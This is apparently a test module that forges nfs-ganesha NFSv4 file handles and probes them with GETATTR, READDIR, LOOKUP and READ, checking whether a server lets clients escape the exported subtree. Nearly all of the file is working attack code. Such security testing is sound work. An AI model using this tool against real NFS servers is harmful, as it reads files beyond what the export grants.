"""NFSv4.0 COMPOUNDs with file handles made up by the caller: the forged-handle attacks of
issue 11 item 4 against nfs-ganesha, which oneroot runs NFSv4-only.

nfs-ganesha 4.3's NFSv4 handle (src/include/nfs_fh.h, FSAL_VFS os/linux/handle_syscalls.c):

    u8 version 0x43 | u8 flags | u16 export id (network order) | u8 fs_len | FSAL opaque
    FSAL_VFS opaque: u8 fsid type | HANDLE_TYPE_8 (0x40), the fsid (0/8/16 bytes by type),
                     u8 kernel handle type, the kernel's handle (name_to_handle_at)

ganesha checks the export id against the client and the fsid against the export's
filesystems, then calls open_by_handle_at on that filesystem: it has no subtree check. So a
forged handle is the export's header around any kernel handle of the same filesystem.
`ganesha_handle` splices one into a real handle the client got with GETFH (`handle_of`);
`kernel_handle` is what a leaked handle carries (read on the server).

    python -m oneroot.testing.nfs4raw SERVER PORT HANDLES.json   # {name: {op: status}} as JSON
"""

from __future__ import annotations

import json
import struct
import sys
from pathlib import Path

from oneroot.nfs.viewhandles import AT_FDCWD, handle_at
from oneroot.testing.nfs3raw import Rpc
from oneroot.testing.oncrpc import opaque

NFS_PROGRAM, NFS_V4, COMPOUND = 100003, 4, 1
OP_GETATTR, OP_GETFH, OP_LOOKUP, OP_PUTFH, OP_PUTROOTFH, OP_READ, OP_READDIR = (
    9, 10, 15, 22, 24, 25, 26)
GANESHA_FH_VERSION = 0x43
_FSID_SIZE = {0: 0, 1: 8, 2: 8, 3: 16, 4: 8, 5: 8}  # ganesha's sizeof_fsid by fsid_type
_HANDLE_TYPE_8 = 0x40


def _bitmap(*bits: int) -> bytes:
    words = [0, 0]
    for bit in bits:
        words[bit // 32] |= 1 << (bit % 32)
    return struct.pack(">III", 2, *words)


GETATTR_BITS = _bitmap(1, 4, 20)  # FATTR4_TYPE, FATTR4_SIZE, FATTR4_FILEID


class Nfs4(Rpc):
    """COMPOUNDs of NFSv4.0 (no session); the status of the whole COMPOUND is the status of
    its last operation (0 = NFS4_OK: answered)."""

    def compound(self, *ops: bytes) -> tuple[int, bytes]:
        args = opaque(b"") + struct.pack(">II", 0, len(ops)) + b"".join(ops)
        reply = self.call(NFS_PROGRAM, NFS_V4, COMPOUND, args)
        if isinstance(reply, int):
            return reply, b""
        status = int(struct.unpack(">I", reply[:4])[0])
        tag_len = int(struct.unpack(">I", reply[4:8])[0])
        return status, reply[8 + tag_len + (-tag_len % 4):]

    def handle_of(self, path: str) -> bytes:
        """GETFH after PUTROOTFH and a LOOKUP per component: the server's own handle."""
        parts = [p for p in path.split("/") if p]
        ops = [struct.pack(">I", OP_PUTROOTFH)]
        ops += [struct.pack(">I", OP_LOOKUP) + opaque(p.encode()) for p in parts]
        status, body = self.compound(*ops, struct.pack(">I", OP_GETFH))
        if status != 0:
            raise RuntimeError(f"GETFH of {path}: NFS4 status {status}")
        at = 4 + 8 * (len(parts) + 1)  # resarray count, then (op, status) per op before GETFH
        length = int(struct.unpack(">I", body[at + 8:at + 12])[0])
        return body[at + 12:at + 12 + length]

    def with_handle(self, fh: bytes, op: bytes) -> int:
        return self.compound(struct.pack(">I", OP_PUTFH) + opaque(fh), op)[0]

    def probe(self, fh: bytes) -> dict[str, int]:
        """GETATTR, READDIR, LOOKUP `etc` and READ (anonymous stateid) with `fh`."""
        return {
            "getattr": self.with_handle(fh, struct.pack(">I", OP_GETATTR) + GETATTR_BITS),
            "readdir": self.with_handle(fh, struct.pack(">IQ", OP_READDIR, 0) + b"\0" * 8
                                        + struct.pack(">II", 1024, 4096) + GETATTR_BITS),
            "lookup": self.with_handle(fh, struct.pack(">I", OP_LOOKUP) + opaque(b"etc")),
            "read": self.with_handle(fh, struct.pack(">II", OP_READ, 0) + b"\0" * 12
                                     + struct.pack(">QI", 0, 4096)),
        }


def ganesha_handle(template: bytes, kernel_type: int, kernel: bytes, *,
                   export_id: int | None = None) -> bytes:
    """`template` (a real ganesha handle on the wanted filesystem) with its kernel handle
    replaced by `kernel` of type `kernel_type`, and its export id by `export_id` if given."""
    if len(template) < 6 or template[0] != GANESHA_FH_VERSION:
        raise ValueError(f"not an nfs-ganesha 4.x handle: {template.hex()}")
    opaque = template[5:5 + template[4]]
    if opaque[0] & 0xC0 != _HANDLE_TYPE_8:
        raise ValueError(f"not an FSAL_VFS handle with a one-byte type: {template.hex()}")
    prefix = opaque[:1 + _FSID_SIZE[opaque[0] & 0x1F]]
    body = prefix + bytes([kernel_type]) + kernel
    export = template[2:4] if export_id is None else struct.pack(">H", export_id)
    return template[:2] + export + bytes([len(body)]) + body


def kernel_handle(path: Path) -> tuple[int, bytes]:
    """name_to_handle_at(2) of `path`: (type, bytes), what the server's kernel decodes."""
    return handle_at(AT_FDCWD, str(path))


def attack(server: str, port: int, handles: dict[str, str], *,
           source: str = "") -> dict[str, dict[str, int]]:
    client = Nfs4(server, port, source=source)
    return {name: client.probe(bytes.fromhex(fh)) for name, fh in handles.items()}


if __name__ == "__main__":
    with open(sys.argv[3]) as f:
        wanted = json.load(f)
    print(json.dumps(attack(sys.argv[1], int(sys.argv[2]), wanted)))
